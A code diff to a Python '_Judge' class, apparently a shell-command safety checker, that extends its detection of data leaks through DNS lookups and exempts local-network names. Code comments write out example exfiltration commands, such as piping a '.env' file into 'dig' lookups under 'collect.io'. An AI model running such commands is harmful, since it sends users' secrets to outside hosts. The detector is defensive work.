@@ -294,7 +294,7 @@ class _Judge:
         if words is not raw:
             self._runner(words)
         self._tls(name, words, args)
-        self._dns(cmd, name, args)
+        self._dns(cmd, name, args, (fed, self._upstream_data(cmd)) if fed is not None else None)
         self._destroy(cmd, name, words, args)
         self._credentials(cmd, name, words, args)
         self._privilege(cmd, name, words, args, depth)
@@ -652,10 +652,16 @@ class _Judge:
 
     # -- DNS -------------------------------------------------------------------
 
-    def _dns(self, cmd: Command, name: str, args: list[str]) -> None:
+    def _dns(self, cmd: Command, name: str, args: list[str], fed: tuple[str, str] | None = None) -> None:
         if name not in table()["resolve"]["programs"] or name in ("curl", "wget"):
             return
         for word in args:
+            if fed is not None and fed[0] and word.startswith(fed[0] + ".") and _outside(_host_of(
+                    word[len(fed[0]) + 1:]), self.env):
+                # `cat .env | xargs -I{} dig {}.collect.io`: each line read is looked up by name
+                self._leak(word[len(fed[0]) + 1:], f"`{fed[1]}`" if _credential(fed[1]) else fed[1],
+                           f"through DNS lookups by `{name}`")
+                return
             if not cmd.inner and "$" in word and not word.startswith("-") and "." in word[word.index("$"):]:
                 # `dig ${data}.collect.io`: whatever the variable holds is looked up by name
                 variable = word[word.index("$"):].split(".", 1)[0]
@@ -668,6 +674,8 @@ class _Judge:
                 target = word.split("$(", 1)[0].split("`", 1)[0]
                 tail = word.rsplit(")", 1)[-1].rsplit("`", 1)[-1]
                 host = tail.lstrip(".") or target
+                if "." not in host.strip(".") or not _outside(_host_of(host), self.env):
+                    continue  # `ping $(hostname)`, `dig $(hostname).local`: answered on this network
                 self._leak(host or "a name server", self._inner_data(cmd) or "command output",
                            f"through a DNS lookup by `{name}`")
                 return
